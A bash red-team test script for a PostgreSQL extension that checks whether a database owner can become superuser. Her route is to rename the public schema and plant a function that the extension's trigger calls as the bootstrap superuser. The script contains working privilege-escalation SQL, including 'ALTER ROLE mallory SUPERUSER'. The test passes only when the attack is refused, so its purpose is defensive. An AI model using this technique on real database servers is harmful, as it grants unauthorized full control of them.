#!/usr/bin/env bash
# Red-team attack on the high-water mark: the owner of a database (mallory,
# no other privilege) becomes SUPERUSER within seconds, with no action of
# any superuser: the high-water writer runs her function as the bootstrap
# superuser.
#
# The trigger function of snowflake_high_water (src/mint/sql/high_water.sql) is
# PL/pgSQL, so its body is parsed by name at run time:
#     PERFORM @extschema@.snowflake_high_water_raise(NEW.worker_id, ...)
# and CREATE EXTENSION baked @extschema@ in as the schema's NAME, "public".
# Since PostgreSQL 15 the database owner owns "public" (pg_database_owner),
# so she can ALTER SCHEMA public RENAME TO anything, CREATE SCHEMA public
# anew, and put her own public.snowflake_high_water_raise(integer, bigint,
# integer, integer, bigint) there. The writer finds the table by the
# extension's schema OID (it follows the rename), UPDATEs it as the
# bootstrap superuser, the AFTER UPDATE trigger fires, and the body now
# resolves to her function. Every round runs it: a restart, or any role
# minting anywhere on the server, is enough. The same rename redirects
# every @extschema@-qualified call in the extension's PL/pgSQL and SQL
# bodies (snowflake_convert_online() and its steps, snowflake_js_safe(),
# the fleet check) whenever a superuser runs them in her database.
#
# Passes (exit 0) when mallory is not a superuser and her function never
# ran as one; fails (exit 1) while the attack works.
set -euo pipefail
source "$(dirname "${BASH_SOURCE[0]}")/attack_lib.sh"
attack_cluster rename "${SNOWFLAKE_ATTACK_PORT:-16215}" 26
as postgres postgres -c "CREATE ROLE mallory LOGIN" -c "CREATE ROLE bob LOGIN" \
    -c "CREATE DATABASE dbm OWNER mallory" -c "CREATE DATABASE bobdb OWNER bob" >/dev/null
# The extension installed by a superuser in each, in the default schema.
for db in dbm bobdb; do
    as postgres "$db" -c "SET client_min_messages = warning" -c "CREATE EXTENSION snowflake_id" >/dev/null
done
log "attack (schema rename): dbm's public schema is owned by $(as postgres dbm -c "SELECT nspowner::regrole FROM pg_namespace WHERE nspname = 'public'")"
[ "$(as postgres postgres -c "SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'")" = f ] \
    || die "mallory is a superuser already"

# The attack: three statements as the database owner.
as mallory dbm >/dev/null <<'SQL'
ALTER SCHEMA public RENAME TO public_was;
CREATE SCHEMA public;
CREATE TABLE public.ran_as (who text, backend text);
CREATE FUNCTION public.snowflake_high_water_raise(integer, bigint, integer, integer, bigint)
RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
    INSERT INTO public.ran_as
    SELECT current_user, (SELECT backend_type FROM pg_catalog.pg_stat_activity WHERE pid = pg_catalog.pg_backend_pid());
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
        EXECUTE 'ALTER ROLE mallory SUPERUSER';
    END IF;
    RETURN false;
END $f$;
SQL

# bob mints in his own database: rounds run.
for _ in $(seq 1 20); do
    as bob bobdb -c "SELECT snowflake_nextval()" >/dev/null 2>&1 || true
    [ "$(as postgres postgres -c "SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'")" = t ] && break
    sleep 1
done
ran=$(as postgres dbm -c "SELECT string_agg(DISTINCT who || ' in ' || coalesce(backend, '?'), ', ') FROM public.ran_as")
super=$(as postgres postgres -c "SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'")
log "attack (schema rename): her function ran as: ${ran:-nobody}"
[ "$super" = f ] || die "attack (schema rename) WORKS: mallory is SUPERUSER (her function ran as ${ran:-?})"
[ -z "$ran" ] || die "attack (schema rename) WORKS in part: her function ran as $ran"
log "attack (schema rename) refused"
